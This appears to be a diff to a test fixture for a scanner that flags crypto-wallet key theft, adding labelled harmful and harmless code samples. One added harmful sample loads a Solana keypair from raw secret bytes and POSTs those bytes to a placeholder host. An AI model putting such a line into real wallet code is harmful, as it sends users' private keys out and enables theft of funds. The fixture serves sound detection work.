@@ -32,6 +32,12 @@ HARM: dict[str, dict[str, str]] = {
             "  return HDNodeWallet.fromPhrase(mnemonic);\n}\n"
         )
     },
+    "bytes of a wallet": {
+        "a.ts": (
+            "export const load = (raw: number[]) => Keypair.fromSecretKey(new Uint8Array(raw));\n"
+            f"export const put = (raw: number[]) => fetch('{HOST}', {{ method: 'POST', body: JSON.stringify(raw) }});\n"
+        )
+    },
     "a key that was made": {
         "a.py": (
             "import requests\nfrom eth_account import Account\na = Account.create()\n"
@@ -91,6 +97,12 @@ HARMLESS: dict[str, dict[str, str]] = {
             "const signature = await wallet.signMessage(text);\n"
             f"const answer = await fetch(`{HOST}?wallet=${{wallet.address.toLowerCase()}}`, {{ headers: own() }});\n"
             f"await fetch('{HOST}', {{ method: 'POST', body: JSON.stringify({{ signature }}) }});\n"
+        )
+    },
+    "bytes of a wallet beside a form": {
+        "a.ts": (
+            "export const load = (raw: number[]) => Keypair.fromSecretKey(new Uint8Array(raw));\n"
+            f"const form = new FormData();\nform.append('name', name);\nfetch('{HOST}', {{ body: form }});\n"
         )
     },
     "a key beside what is sent": {
